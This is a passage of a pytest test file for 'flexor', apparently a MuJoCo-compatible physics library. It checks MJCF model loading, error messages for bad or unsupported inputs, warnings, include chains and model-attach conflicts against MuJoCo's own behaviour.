      out += struct.pack("<3f", *verts[i])
    out += b"\0\0"
  return out


def test_string_with_assets_matches_mujoco():
  xml = """<mujoco>
  <include file="parts.xml"/>
  <asset><mesh name="tet" file="tet.stl"/></asset>
  <worldbody><body><freejoint/><geom type="mesh" mesh="tet"/></body></worldbody>
</mujoco>"""
  assets = {"parts.xml": b"<mujoco><option timestep='0.003'/></mujoco>",
            "tet.stl": _tetrahedron_stl()}
  ours = flexor.load_mjcf_string(xml, assets=assets)
  ref = mujoco.MjModel.from_xml_string(xml, assets)
  assert float(ours.opt.timestep) == 0.003
  assert abs(float(ours.body_mass[1]) - ref.body_mass[1]) < 1e-12 * ref.body_mass[1]


def test_string_missing_asset():
  with pytest.raises(MJCFError, match="not found in the assets") as info:
    flexor.load_mjcf_string("<mujoco>\n<include file='nope.xml'/>\n</mujoco>")
  assert (info.value.file, info.value.line, info.value.attribute) == (None, 2, "file")


def test_legacy_passive_flag():
  model = flexor.load_mjcf_string(_body(_GOOD_BODY, "<option><flag passive='disable'/></option>"))
  assert model.opt.disableflags == int(flexor.types.DisableBit.SPRING
                                       | flexor.types.DisableBit.DAMPER)


def test_missing_model_file(tmp_path):
  with pytest.raises(MJCFError, match="cannot read model file"):
    flexor.load_mjcf(tmp_path / "nope.xml")


def test_bad_mesh_file():
  xml = "<mujoco>\n<asset>\n<mesh file='bad.stl'/>\n</asset>\n</mujoco>"
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf_string(xml, assets={"bad.stl": b"not a mesh"})
  assert (info.value.line, info.value.element, info.value.attribute) == (3, "mesh", "file")
  assert str(info.value).count("<mesh>") == 1, str(info.value)


def test_flat_colliding_mesh():
  """A colliding mesh needs a convex hull (MuJoCo: "coplanar vertices"); a visual one does not."""
  xml = ("<mujoco>\n<asset>\n<mesh name='flat' vertex='0 0 0 1 0 0 0 1 0 1 1 0' "
         "face='0 1 2 1 3 2' inertia='shell'/>\n</asset>\n<worldbody><body><freejoint/>"
         "<geom type='mesh' mesh='flat' contype='{0}' conaffinity='{0}'/></body></worldbody>"
         "\n</mujoco>")
  with pytest.raises(MJCFError, match="flat; their convex hull has no volume") as info:
    flexor.load_mjcf_string(xml.format(1))
  assert (info.value.line, info.value.element) == (3, "mesh")
  assert flexor.load_mjcf_string(xml.format(0)).mesh_graphadr.tolist() == [-1]


@pytest.mark.parametrize("xml,line,element,attribute",
                         [pytest.param(*c[1:], id=c[0]) for c in _UNSUPPORTED])
def test_unsupported_feature(tmp_path, xml, line, element, attribute):
  """Features MuJoCo has and flexor not yet: refused by name, never silently dropped."""
  path = tmp_path / "model.xml"
  path.write_text(xml)
  mujoco.MjModel.from_xml_path(str(path))
  with pytest.raises(MJCFError, match="not supported by flexor yet") as info:
    flexor.load_mjcf(path)
  assert (info.value.line, info.value.element, info.value.attribute) == (line, element, attribute)


def test_body_plugin_is_refused():
  """A body plugin (a cable's elasticity, say) adds forces: refused, not dropped."""
  xml = ("<mujoco><extension><plugin plugin='mujoco.elasticity.cable'><instance name='c'/>"
         "</plugin></extension><worldbody><body><freejoint/><geom size='1'/>"
         "<plugin instance='c'/></body></worldbody></mujoco>")
  with pytest.raises(MJCFError, match="not supported by flexor yet") as info:
    flexor.load_mjcf_string(xml)
  assert info.value.element == "plugin"


@pytest.mark.parametrize("xml,attribute,word", [
    pytest.param(_act("<position site='s' kp='10'/>"), "site", "refsite", id="position_on_site"),
    pytest.param(_act("<intvelocity joint='j' kp='10'/>"), "actrange", "actrange",
                 id="intvelocity_unbounded"),
    pytest.param("<mujoco><option><flag sleep='enable'/></option></mujoco>", "sleep",
                 "not built", id="flag_sleep"),
    pytest.param("<mujoco><option><flag speculative='enable'/></option></mujoco>",
                 "speculative", "not built", id="flag_speculative"),
    pytest.param("<mujoco><option><flag nativeccd='disable'/></option></mujoco>", "nativeccd",
                 "not built", id="flag_nativeccd"),
])
def test_misbehaving_models_warn(xml, attribute, word):
  """Models MuJoCo accepts but that will not do what they seem to: loaded, with a warning."""
  mujoco.MjModel.from_xml_string(xml)
  with pytest.warns(UserWarning, match=word) as record:
    flexor.load_mjcf_string(xml)
  assert any(f"attribute '{attribute}'" in str(w.message) for w in record)


def test_error_in_nested_include_names_the_include_chain(tmp_path):
  (tmp_path / "part.xml").write_text("<mujoco>\n<worldbody>\n\n<geom size='-1'/>\n</worldbody>"
                                     "\n</mujoco>")
  (tmp_path / "mid.xml").write_text("<mujoco>\n\n<include file='part.xml'/>\n</mujoco>")
  path = tmp_path / "model.xml"
  path.write_text("<mujoco>\n<include file='mid.xml'/>\n</mujoco>")
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  e = info.value
  assert (e.file, e.line, e.element, e.attribute) == (
      os.path.realpath(tmp_path / "part.xml"), 4, "geom", "size")
  assert e.included_from == ((os.path.realpath(tmp_path / "mid.xml"), 3), (str(path), 2))
  assert str(e).endswith(f"(included from {os.path.realpath(tmp_path / 'mid.xml')}:3) "
                         f"(included from {path}:2)"), str(e)


_CHILD = ("<mujoco model='kid'>\n{head}<worldbody>\n<body name='torso'>\n<joint name='j'/>\n"
          "<geom size='{size}'/>\n</body>\n</worldbody>\n</mujoco>")


def _parent(attach: str, head: str = "") -> str:
  return (f"<mujoco model='mom'>\n{head}<asset>\n<model name='kid' file='kid.xml'/>\n</asset>\n"
          f"<worldbody>\n{attach}\n</worldbody>\n</mujoco>")


# (id, parent, child head, child geom size, file, line, element, attribute, word); file "kid"
# is the child model; the parent's <attach> is on line 6, after a head of n lines on 6 + n
_ATTACH_CASES = [
    ("unknown_model", _parent("<attach model='other' body='torso' prefix='a'/>"), "", "0.1",
     "mom", 6, "attach", "model", "could not find model 'other'"),
    ("unknown_body", _parent("<attach model='kid' body='arm' prefix='a'/>"), "", "0.1",
     "mom", 6, "attach", "body", "could not find body 'arm'"),
    ("missing_prefix", _parent("<attach model='kid' body='torso'/>"), "", "0.1",
     "mom", 6, "attach", "prefix", "missing required attribute"),
    ("self_attach_all", _parent("<attach prefix='a'/>"), "", "0.1",
     "mom", 6, "attach", "body", "needs a body or a frame"),
    ("conflict_error", _parent("<attach model='kid' body='torso' prefix='a'/>",
                               "<compiler conflict='error'/>\n<option timestep='0.01'/>\n"),
     "<option timestep='0.001'/>\n", "0.1", "mom", 8, "attach", "model",
     "timestep: parent has 0.01, child has 0.001"),
    ("error_in_child", _parent("<attach model='kid' body='torso' prefix='a'/>"), "", "-1",
     "kid", 5, "geom", "size", "size"),
]


@pytest.mark.parametrize("parent,head,size,file,line,element,attribute,word",
                         [pytest.param(*c[1:], id=c[0]) for c in _ATTACH_CASES])
def test_bad_attach(tmp_path, parent, head, size, file, line, element, attribute, word):
  (tmp_path / "kid.xml").write_text(_CHILD.format(head=head, size=size))
  path = tmp_path / "mom.xml"
  path.write_text(parent)
  with pytest.raises(MJCFError) as info:
    flexor.load_mjcf(path)
  e = info.value
  assert word in str(e), str(e)
  assert (os.path.basename(e.file), e.line, e.element, e.attribute) == (
      f"{file}.xml", line, element, attribute), str(e)
  with pytest.raises(Exception):   # MuJoCo refuses each of them too
    mujoco.MjModel.from_xml_path(str(path))


def test_attach_conflicts_warn_and_keep_the_parent_by_default(tmp_path):
  (tmp_path / "kid.xml").write_text(_CHILD.format(head="<option timestep='0.001'/>\n",
                                                  size="0.1"))
  path = tmp_path / "mom.xml"
  path.write_text(_parent("<attach model='kid' body='torso' prefix='a'/>",
                          "<option timestep='0.01'/>\n"))
  with pytest.warns(UserWarning, match="(?s)policy is 'warning'.*timestep: parent has 0.01, "
                    "child has 0.001, keeping parent value"):
    model = flexor.load_mjcf(path)
  assert float(model.opt.timestep) == 0.01 == mujoco.MjModel.from_xml_path(str(path)).opt.timestep
